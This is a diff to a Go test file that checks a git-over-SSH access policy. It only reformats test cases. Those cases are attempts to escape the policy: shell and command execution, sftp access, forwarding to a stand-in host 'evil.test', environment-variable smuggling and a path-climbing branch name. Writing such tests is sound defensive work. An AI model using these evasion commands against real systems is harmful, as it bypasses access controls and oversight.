@@ -326,7 +326,7 @@ func TestEGR14_GitOverSSHAttacks(t *testing.T) {
 		{"command", ask + "echo did", "did"},
 		{"shell", "echo | timeout 10 " + ask + "-v 2>&1", "did it"},
 		{"subsystem", "timeout 10 " + ask + "-v -s sftp 2>&1 </dev/null", "did it"},
-		{"forwarding", "timeout 10 "+ask+"-W evil.test:80", "forwarded"},
+		{"forwarding", "timeout 10 " + ask + "-W evil.test:80", "forwarded"},
 		{"another user", "ssh -T -o BatchMode=yes -o StrictHostKeyChecking=accept-new root@git.test \"git-upload-pack 'team/repo.git'\" </dev/null", "refs/heads/main"},
 		{"variable", "LC_X=1 GIT_PROTOCOL='version=2:x' ssh -T -o BatchMode=yes -o StrictHostKeyChecking=accept-new -o SendEnv='LC_X GIT_PROTOCOL' git@git.test 'echo $LC_X$GIT_PROTOCOL'", "1version"},
 	}
@@ -418,7 +418,9 @@ func TestEGR14_GitOverSSHBranches(t *testing.T) {
 	yard.Each(t, func(t *testing.T, y *yard.Yard) {
 		w := newGitWorld(t, y, false)
 		userPolicy(t, y, "net:\n  git:\n    repositories: [git@git.test:team/repo.git]\n    write: true\n    branches: [agent/*]\n")
-		push := func(what, refs string) string { return "git push -q -f origin " + refs + " 2>&1 && echo '" + what + " passed'\n" }
+		push := func(what, refs string) string {
+			return "git push -q -f origin " + refs + " 2>&1 && echo '" + what + " passed'\n"
+		}
 		script := "git clone -q git@git.test:team/repo.git a && cd a && git commit -q --allow-empty -m new\n" +
 			push("main", "HEAD:main") + push("agent", "HEAD:agent/one") + push("both", "HEAD:agent/two HEAD:main") +
 			push("tag", "HEAD:refs/tags/v1") + push("deletion", ":agent/one") + push("climb", "HEAD:refs/heads/agent/../main") + "true"
